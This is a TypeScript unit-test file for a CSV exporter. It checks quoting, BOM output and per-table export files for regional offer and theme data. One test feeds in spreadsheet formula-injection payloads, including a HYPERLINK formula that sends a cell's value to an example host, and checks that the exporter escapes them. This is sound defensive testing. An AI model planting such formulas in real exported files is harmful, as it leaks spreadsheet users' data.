import {parse} from 'csv-parse/sync';
import type {DataTables} from '../shared/data';
import {dataCsvFiles, toCsv} from './csv';

describe('toCsv', () => {
  it('quotes commas, doubles quotes and keeps newlines inside a quoted field', () => {
    const text = toCsv(['theme_id', 'theme_label'], [['a', 'Santé, "mentale"\net logement'], ['b', 'simple']]);
    expect(text).toBe('\uFEFFtheme_id,theme_label\n' + 'a,"Santé, ""mentale""\net logement"\n' + 'b,simple\n');
    expect(parse(text, {bom: true})).toEqual([
      ['theme_id', 'theme_label'],
      ['a', 'Santé, "mentale"\net logement'],
      ['b', 'simple'],
    ]);
  });

  it('keeps a text a spreadsheet would run as a formula as text, and numbers as numbers', () => {
    const rows = [['a', '=HYPERLINK("https://example.org/?d="&A1,"clic")', -2], ['b', '+SUM(A1)', 0], ['c', '@cmd', 1], ['d', '-x', 2], ['e', 'Santé = bien-être', 3]];
    expect(parse(toCsv(['theme_id', 'theme_label', 'total'], rows), {bom: true}).slice(1)).toEqual([
      ['a', '\'=HYPERLINK("https://example.org/?d="&A1,"clic")', '-2'],
      ['b', "'+SUM(A1)", '0'],
      ['c', "'@cmd", '1'],
      ['d', "'-x", '2'],
      ['e', 'Santé = bien-être', '3'],
    ]);
  });

  it('quotes a carriage return too', () => {
    expect(toCsv(['x'], [['a\rb']])).toBe('\uFEFFx\n"a\rb"\n');
  });
});

describe('dataCsvFiles', () => {
  it('writes one file per table, with ids and labels', () => {
    const tables: DataTables = {
      buildDate: '2026-11-20T00:00:00.000Z',
      locale: 'fr',
      kinds: [{id: 'vignette', label: 'Vignette'}],
      basins: [{id: 'nord', label: 'Bassin Nord'}, {id: 'sud', label: 'Bassin Sud'}],
      themesByKind: [],
      offersByBasin: [{basin: {id: 'nord', label: 'Bassin Nord'}, offers: 3, upcoming: 1}],
      offersByMonth: [{month: '2026-03', label: 'mars 2026', offers: 2}],
      standingOffers: 0,
      concertationThemesByBasin: [],
      gaps: [
        {
          theme: {id: 'logement', label: 'Logement, habitat', permalink: '/thematiques/logement/'},
          raised: 2,
          basins: [{id: 'nord', label: 'Bassin Nord'}, {id: 'sud', label: 'Bassin Sud'}],
          upcomingOffers: 0,
          vignettes: 1,
          missing: ['upcoming-offer'],
        },
      ],
    };
    const files = dataCsvFiles(tables);
    expect(Object.keys(files).sort()).toEqual(['concertation-themes-by-basin', 'gaps', 'offers-by-basin', 'offers-by-month', 'themes-by-kind']);
    expect(parse(files.gaps, {bom: true, columns: true})).toEqual([
      {
        theme_id: 'logement',
        theme_label: 'Logement, habitat',
        times_raised: '2',
        basin_ids: 'nord;sud',
        basin_labels: 'Bassin Nord; Bassin Sud',
        upcoming_offers: '0',
        vignettes: '1',
        missing: 'upcoming-offer',
      },
    ]);
    expect(parse(files['themes-by-kind'], {bom: true})).toEqual([['theme_id', 'theme_label', 'vignette', 'total']]);
    expect(parse(files['offers-by-basin'], {bom: true})).toEqual([
      ['basin_id', 'basin_label', 'offers', 'upcoming_offers'],
      ['nord', 'Bassin Nord', '3', '1'],
    ]);
  });
});
